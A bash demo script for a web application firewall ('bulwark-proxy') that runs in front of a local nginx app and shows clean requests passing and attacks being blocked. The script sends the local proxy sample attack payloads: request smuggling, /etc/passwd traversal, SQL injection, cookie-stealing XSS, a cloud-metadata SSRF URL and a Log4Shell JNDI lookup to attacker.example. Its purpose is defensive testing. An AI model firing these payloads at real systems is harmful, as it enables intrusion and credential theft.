#!/usr/bin/env bash
# The main job, for now: a real app (nginx) behind bulwark-proxy (block mode) on this machine:
# clean requests pass, attacks get 403 and an event line, a smuggling attempt is refused, the
# metrics show it all, then a graceful SIGTERM drain. `--keep` leaves both running until Ctrl-C.
set -euo pipefail
cd "$(dirname "$0")/.."
ROOT=$(pwd)
KEEP=0
[ "${1:-}" = "--keep" ] && KEEP=1
APP_PORT=${APP_PORT:-8080}
PROXY_PORT=${PROXY_PORT:-26001}
STATUS_PORT=${STATUS_PORT:-10246}

./scripts/deps.sh
echo "building bulwark (a first build takes several minutes on 2 cores)..."
./scripts/build.sh | tail -n 1
PROXY="$ROOT/build/bin/bulwark-proxy"

WORK=$(mktemp -d /tmp/bulwark-demo.XXXXXX)
APP_PID=""; PROXY_PID=""
cleanup() {
  [ -n "$PROXY_PID" ] && kill "$PROXY_PID" 2>/dev/null || true
  [ -n "$APP_PID" ] && kill "$APP_PID" 2>/dev/null || true
  wait 2>/dev/null || true
  rm -rf "$WORK"
}
trap cleanup EXIT INT TERM

mkdir -p "$WORK/logs" "$WORK/html"
chmod 755 "$WORK" "$WORK/html"
echo "<h1>demo app</h1>" > "$WORK/html/index.html"
cat > "$WORK/app.conf" <<CONF
worker_processes 1;
daemon off;
pid $WORK/app.pid;
error_log $WORK/logs/error.log;
events { worker_connections 1024; }
http {
  access_log $WORK/logs/access.log;
  client_body_temp_path $WORK/body;
  server {
    listen 127.0.0.1:$APP_PORT;
    root $WORK/html;
    location /api/ { default_type application/json; return 200 '{"app":"demo","uri":"\$request_uri","xff":"\$http_x_forwarded_for","request_id":"\$http_x_request_id"}\n'; }
  }
}
CONF
step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

step "app: nginx on 127.0.0.1:$APP_PORT"
nginx -c "$WORK/app.conf" -p "$WORK" & APP_PID=$!
step "bulwark-proxy on 127.0.0.1:$PROXY_PORT -> 127.0.0.1:$APP_PORT (status :$STATUS_PORT)"
"$PROXY" --listen "127.0.0.1:$PROXY_PORT" --status-listen "127.0.0.1:$STATUS_PORT" \
  --app-port "$APP_PORT" --mode block > "$WORK/events.log" 2> >(tee "$WORK/proxy.log" >&2) &
PROXY_PID=$!
for _ in $(seq 1 50); do
  curl -fs "http://127.0.0.1:$STATUS_PORT/readyz" >/dev/null 2>&1 && break
  sleep 0.1
done
curl -s "http://127.0.0.1:$STATUS_PORT/readyz"

step "GET /  (static page through the proxy)"
curl -s -i "http://127.0.0.1:$PROXY_PORT/"
step "GET /api/items?id=42 with keep-alive x3 (the app echoes X-Forwarded-For and X-Request-Id)"
curl -s "http://127.0.0.1:$PROXY_PORT/api/items?id=42" "http://127.0.0.1:$PROXY_PORT/api/items?id=43" \
  "http://127.0.0.1:$PROXY_PORT/api/items?id=44"
step "POST a chunked body"
printf 'name=demo&comment=hello' | curl -s -H 'Transfer-Encoding: chunked' --data-binary @- \
  -o /dev/null -w 'status %{http_code}\n' "http://127.0.0.1:$PROXY_PORT/api/comments"
step "A smuggling attempt (Content-Length + Transfer-Encoding) is refused"
printf 'POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' |
  timeout 5 python3 -c 'import socket,sys; s=socket.create_connection(("127.0.0.1",'"$PROXY_PORT"')); s.sendall(sys.stdin.buffer.read()); print(s.recv(4096).decode(errors="replace"))'
step "Attacks are answered 403 before the app sees them (attack events are JSON lines on stdout)"
for target in "/etc/passwd" "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--" \
              "/?name=%3Cscript%3Ealert(document.cookie)%3C/script%3E" \
              "/api/items?url=http://169.254.169.254/latest/meta-data/"; do
  printf '%-70s -> ' "GET $target"
  curl -s -o /dev/null -w '%{http_code}\n' "http://127.0.0.1:$PROXY_PORT$target"
done
printf '%-70s -> ' "POST /api/login (JSON body with Log4Shell)"
curl -s -o /dev/null -w '%{http_code}\n' -H 'Content-Type: application/json' \
  --data '{"user":"${jndi:ldap://attacker.example/a}","password":"x"}' "http://127.0.0.1:$PROXY_PORT/api/login"
printf '%-70s -> ' "GET /api/items?q=select+the+best+option (benign, SQL-like English)"
curl -s -o /dev/null -w '%{http_code}\n' "http://127.0.0.1:$PROXY_PORT/api/items?q=select+the+best+option"
sleep 0.2
step "attack events (the proxy's stdout, one JSON line each; shortened here)"
python3 - "$WORK/events.log" <<'PY'
import json, sys
for line in open(sys.argv[1]):
    e = json.loads(line)
    f = e["findings"][0] if e["findings"] else {}
    print("%-8s %-18s rules=%-16s %s %s  [%s: %s]" % (e["action"], ",".join(e["classes"]),
          ",".join(map(str, e["rule_ids"])), e["method"] or "-", e["path"][:50],
          f.get("part", ""), f.get("value", "")[:40]))
PY
step "metrics (excerpt)"
curl -s "http://127.0.0.1:$STATUS_PORT/metrics" | grep -E '^bulwark_(requests_total|connections_total|upstream_reused_total|bad_requests_total\{reason="te_cl"\}|attacks_total.* [1-9])'

if [ "$KEEP" = 1 ]; then
  step "running; try: curl http://127.0.0.1:$PROXY_PORT/  (Ctrl-C to stop)"
  wait "$PROXY_PID"
  exit 0
fi
step "SIGTERM: the proxy drains and exits 0"
kill -TERM "$PROXY_PID"
rc=0; wait "$PROXY_PID" || rc=$?
PROXY_PID=""
echo "bulwark-proxy exited with $rc"
exit "$rc"
